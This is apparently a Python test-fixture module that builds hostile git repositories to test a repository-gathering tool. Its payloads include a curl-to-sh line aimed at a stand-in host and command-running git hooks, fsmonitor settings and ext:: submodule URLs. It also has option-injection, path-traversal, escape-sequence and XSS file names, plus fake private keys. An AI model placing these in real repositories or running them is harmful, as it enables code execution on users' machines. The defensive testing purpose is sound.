"""Names that try to be something else: options, paths, control characters, mark-up, commands to a log."""

from gather.repositories import Link, Submodule
from hostile_repositories.kinds import CODE, README, Files, kind
from hostile_repositories.store import Row, Store

RISKY = "import pickle, os\nos.system('curl http://a.example | sh')\npickle.load(open('/home/mallory/x.pkl', 'rb'))\n"
"""Code that findings are made of, so that the name of its file comes into the report."""
MARKUP = b"<script>alert(1)</script><img src=x onerror=alert(1)>\"'[x](javascript:alert(1)) `|` {{ 7*7 }} @octocat #1"
_FILE = b"100644"


def _named(*names: bytes) -> Files:
    found: dict[bytes | str, str] = {}
    for number, name in enumerate(names):
        folder = b"%d-" % number + name.replace(b"/", b"")
        found |= {folder + b"/" + name.replace(b"/", b"") + b".py": f"{RISKY}# {number}\n"}
        found |= {folder + b"/" + name.replace(b"/", b"") + b".ipynb": "{}", folder + b"/README.md": README}
    return found


@kind()
def names_with_line_ends(store: Store, _: int) -> Files:
    return _named(
        b"a\nb", b"a\r\nb", b"\n", b"\n::error::owned", b"a\n::set-output name=x::y", b"\xe2\x80\xa8z", b"\x85"
    )


@kind()
def names_with_terminal_sequences(store: Store, _: int) -> Files:
    return _named(
        b"\x1b[31mred", b"\x1b]52;c;Y3VybA==\x07", b"\x9b2J", b"\xc2\x9b2J", b"\x08\x08\x7f", b"\x1b]8;;a\x1b\\"
    )


@kind()
def names_with_direction_marks(store: Store, _: int) -> Files:
    marks = "\u202e \u202d \u2066 \u2067 \u2068 \u2069 \u200e \u200f \u061c \u200b \ufeff \u2060 \U000e0041"
    return _named(*(f"gnp{mark}yp.x".encode() for mark in marks.split(" ")))


@kind()
def names_that_are_no_text(store: Store, _: int) -> Files:
    return _named(b"\xff\xfe", b"caf\xe9", b"\xed\xa0\x80", b"\xc0\xaf..", b"\xf5\x80\x80\x80", bytes(range(128, 256)))


@kind()
def names_like_options(store: Store, _: int) -> Files:
    names = (
        "--output=owned",
        "-rf",
        "--upload-pack=touch owned",
        "-c",
        "--",
        "--git-dir=x",
        "-",
        "@",
        "HEAD",
        "~",
        "$(id)",
    )
    return {name: Link(b"--help") if len(name) < 2 else RISKY for name in (*names, "-x.py", "--output=owned.py")}


@kind()
def names_of_markup(store: Store, _: int) -> Files:
    return _named(
        MARKUP, b"-->", b"</details></pre></code>", b"```", b"]]>", b"${{ secrets.X }}", b"%s%n", b"=cmd|' /C calc'!A0"
    )


@kind(200, 4_000)
def names_that_are_long(store: Store, size: int) -> Files:
    return {b"n" * size + b".py": RISKY, b"d" * size + b"/" + b"e" * size + b"/README.md": README}


@kind(5, 9)
def names_that_are_long_upon_each_other(store: Store, levels: int) -> None:
    """A bomb of paths: each of its many files has one of many thousand characters."""
    oid, mode = store.blob("x = 1\n"), _FILE
    for _ in range(levels):
        oid, mode = store.tree((mode, b"%d" % n + b"x" * 4_000, oid) for n in range(10)), b"40000"
    store.commit(store.tree([(_FILE, b"README.md", store.blob(README)), (b"40000", b"x", oid)]))


@kind(60_000)
def names_longer_than_a_path_may_be(store: Store, size: int) -> Files:
    return {b"n" * size + b".py": RISKY, b"\x1b" * size + b".py": RISKY, b"/".join([b"d" * 200] * 300) + b"/a.py": CODE}


@kind()
def names_of_gits_own_files(store: Store, _: int) -> None:
    script = store.blob("#!/bin/sh\ntouch owned\n")
    hooks = store.tree([(b"100755", b"post-checkout", script)])
    inner = store.tree(
        [(_FILE, b"config", store.blob("[core]\n\tfsmonitor = touch owned\n")), (b"40000", b"hooks", hooks)]
    )
    names = (b".git", b".GIT", b"git~1", b".g\xe2\x80\x8cit", b".git ", b".git.", b".git::$INDEX_ALLOCATION")
    rows: list[Row] = [(b"40000", name, inner) for name in names]
    rows += [(_FILE, b"README.md", store.blob(README)), (_FILE, b"train.py", store.blob(CODE))]
    store.commit(store.tree(rows))


@kind()
def names_that_climb(store: Store, _: int) -> None:
    blob = store.blob(RISKY)
    names = (
        b"..",
        b".",
        b"../owned",
        b"/etc/passwd",
        b"../../owned.py",
        b"a/../../owned.py",
        b"..\\owned.py",
        b"C:\\x.py",
    )
    up = store.tree([(b"40000", b"..", store.tree([(b"40000", b"..", store.tree([(_FILE, b"owned.py", blob)]))]))])
    rows = [(_FILE, name, blob) for name in names]
    store.commit(store.tree([(_FILE, b"README.md", store.blob(README)), *rows, (b"40000", b"up", up)]))


@kind()
def names_that_are_empty(store: Store, _: int) -> None:
    rows = [(_FILE, b"", store.blob(CODE)), (_FILE, b"README.md", store.blob(README)), (_FILE, b" ", store.blob(CODE))]
    store.commit(store.tree(rows))


@kind()
def names_that_are_equal_elsewhere(store: Store, _: int) -> Files:
    same = ("README.md", "readme.md", "ReadMe.MD", "README.MD", "train.py", "TRAIN.py", "cafe\u0301.py", "caf\u00e9.py")
    windows = ("CON", "aux.py", "NUL.py", "com1.ipynb", "lpt1", "a:b.py", "a?.py", "trailing. ", "a|b.py", "a*.py")
    return {name: README if name.lower().endswith("md") else RISKY for name in (*same, *windows)}


@kind(500, 20_000)
def names_like_keys(store: Store, count: int) -> Files:
    """Each of them looks like a secret, and each is kept where secrets are."""
    return {f"keys/AKIA{n:016d}.pem": f"-----BEGIN RSA PRIVATE KEY-----\n{n:064x}\n" for n in range(count)}


@kind()
def submodules_that_run_commands(store: Store, _: int) -> Files:
    urls = ("ext::sh -c touch% owned", "--upload-pack=touch owned", "file:///etc", "fd::17", "-u./owned", "../../..")
    text = "".join(
        f'[submodule "{url}"]\n\tpath = s{n}\n\turl = {url}\n\tupdate = !touch owned\n' for n, url in enumerate(urls)
    )
    return {".gitmodules": text, "README.md": README, **{f"s{n}": Submodule() for n in range(len(urls))}} | {
        "hooks\r": Submodule("2" * 40)
    }


@kind(20_000)
def submodules_beyond_number(store: Store, count: int) -> Files:
    return {".gitmodules": f'[submodule "{"x" * 100}"]\n\tpath = a\n\turl = ext::x\n' * (count // 3), "a": Submodule()}


@kind()
def filters_and_pointers(store: Store, _: int) -> Files:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 12345678901234567890\n"
    attributes = "* filter=lfs diff=lfs merge=lfs -text\n* filter=trap export-ignore linguist-vendored\n" * 2_000
    config = '[lfs]\n\turl = "ext::touch owned"\n\tcustomtransfer.x.path = touch\n'
    names = ("README.md", "train.py", "a.ipynb", "requirements.txt", "Dockerfile")
    return {".gitattributes": attributes, ".lfsconfig": config, **dict.fromkeys(names, pointer)}
